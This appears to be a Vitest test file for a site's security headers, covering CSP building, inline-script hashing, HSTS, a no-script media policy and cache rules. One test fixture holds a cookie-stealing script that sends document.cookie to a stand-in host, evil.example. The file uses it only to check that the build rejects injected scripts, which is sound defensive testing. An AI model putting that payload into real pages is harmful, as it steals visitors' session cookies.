// The headers every host file carries (hosting/headers.ts; tested here, where the unit config looks).
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { headScript } from '../../client/consentDefault.js'
import { scriptLoader } from '../../client/pageScriptLoader.js'
import { cacheControlFor, checkInlineScripts, contentSecurityPolicy, inlineScriptHashes, mediaPolicy, scriptHash, securityHeaders, securityHeadersFor, thirdPartyOrigins } from '../headers.js'

describe('Content-Security-Policy', () => {
  it("allows only the site itself by default: no WebAssembly (site search needs none), workers only from the site (the loader's Intl warm-up)", () => {
    const csp = contentSecurityPolicy(thirdPartyOrigins({}))
    expect(csp).toContain("script-src 'self';")
    expect(csp).toContain("worker-src 'self';")
    expect(csp).toContain("connect-src 'self';")
    expect(csp).toContain("frame-src 'none'")
    expect(csp).not.toMatch(/https:|'unsafe-inline'|'unsafe-eval'|'wasm-unsafe-eval'|blob:/)
  })

  it("opens a vendor only when the build configures it, with the client's variable names", () => {
    const csp = contentSecurityPolicy(thirdPartyOrigins({ PUBLIC_GTM_ID: 'GTM-ABC123', PUBLIC_RECAPTCHA_SITE_KEY: 'k', PUBLIC_API_BASE: 'https://api.korvina.example/v1' }))
    expect(csp).toContain("script-src 'self' https://www.googletagmanager.com https://www.google.com/recaptcha/")
    expect(csp).toContain('frame-src https://www.google.com/recaptcha/ https://recaptcha.google.com/recaptcha/')
    expect(csp).toContain('https://api.korvina.example')
    expect(csp).not.toContain('licdn')
    expect(contentSecurityPolicy(thirdPartyOrigins({ PUBLIC_API_BASE: '/api' }))).not.toContain('https:')
  })

  it('lists the inline scripts the project writes by hash (data blocks and external scripts are not hashed)', () => {
    const root = mkdtempSync(join(tmpdir(), 'csp-'))
    try {
      mkdirSync(join(root, 'en'))
      const page = (inline: string) =>
        `<html><head><script>${inline}</script><script type="application/ld+json">{"a":1}</script>` +
        `<script id="page-context" type="application/json">{}</script><script src="/assets/x.js" type="module" async></script></head></html>`
      writeFileSync(join(root, 'index.html'), page(headScript))
      writeFileSync(join(root, 'en', 'a.html'), page(headScript).replace('</head>', `<script type="module">${scriptLoader}</script></head>`))
      expect(inlineScriptHashes(root, ['index.html', 'en/a.html'])).toEqual([scriptHash(headScript), scriptHash(scriptLoader)].sort())
      // sha256("window.dataLayer=[]"), as `echo -n … | openssl sha256 -binary | base64` gives it.
      expect(scriptHash('window.dataLayer=[]')).toBe('sha256-L7hWNrEyMq7YioXB7dvUrVxlz+dSddaZUGK2GvzNH/Q=')
    } finally {
      rmSync(root, { recursive: true, force: true })
    }
  })

  it('fails on a page holding an inline script the project did not write, naming the page', () => {
    const root = mkdtempSync(join(tmpdir(), 'csp-'))
    try {
      // Content that got a script into a blog post: its hash must not be allowed, the build must stop.
      writeFileSync(join(root, 'index.html'), `<html><head><script>${headScript}</script></head></html>`)
      writeFileSync(join(root, 'post.html'), `<html><head><script>${headScript}</script></head><body><script>fetch('//evil.example/'+document.cookie)</script></body></html>`)
      expect(() => inlineScriptHashes(root, ['index.html', 'post.html'])).toThrowError(/1 inline script\(s\) the project did not write .*: post\.html \(sha256-/)
      // A body differing by one character from ours is foreign too.
      expect(() => checkInlineScripts([['/blog/x', [scriptHash(`${headScript} `)]]])).toThrowError(/\/blog\/x \(sha256-/)
      expect(checkInlineScripts([['/', [scriptHash(headScript)]]])).toEqual([scriptHash(headScript)])
    } finally {
      rmSync(root, { recursive: true, force: true })
    }
  })

  it('puts the hashes into script-src', () => {
    const [[, csp] = ['', '']] = securityHeaders([], ['sha256-abc='])
    expect(csp).toContain("script-src 'self' 'sha256-abc='")
  })
})

describe('Strict-Transport-Security and the media policy', () => {
  it('sends HSTS for at least a year with subdomains, without preload (not decided)', () => {
    const hsts = new Map(securityHeaders([])).get('Strict-Transport-Security') ?? ''
    expect(Number(/max-age=(\d+)/.exec(hsts)?.[1])).toBeGreaterThanOrEqual(31_536_000)
    expect(hsts).toContain('includeSubDomains')
    expect(hsts).not.toContain('preload')
  })

  it('gives files under /media/ a CSP in which nothing runs script, keeping the other headers', () => {
    const site = securityHeaders([])
    const media = new Map(securityHeadersFor(site, mediaPolicy, '/media/blog/a.svg'))
    const csp = media.get('Content-Security-Policy') ?? ''
    expect(csp).toMatch(/^default-src 'none';/)
    expect(csp).not.toMatch(/script-src|'unsafe-eval'|https?:/)
    expect(media.get('X-Content-Type-Options')).toBe('nosniff')
    expect(media.get('Strict-Transport-Security')).toBe(new Map(site).get('Strict-Transport-Security'))
    expect(securityHeadersFor(site, mediaPolicy, '/blog/a')).toEqual(site)
  })
})

describe('cache policy', () => {
  it('caches hashed assets for a year, media for a day, revalidates the rest', () => {
    expect(cacheControlFor('/assets/entries/x.BhyJBceK.js')).toBe('public, max-age=31536000, immutable')
    expect(cacheControlFor('/media/people/a.svg')).toBe('public, max-age=86400')
    expect(cacheControlFor('/kontakty')).toBe('no-cache')
  })
})
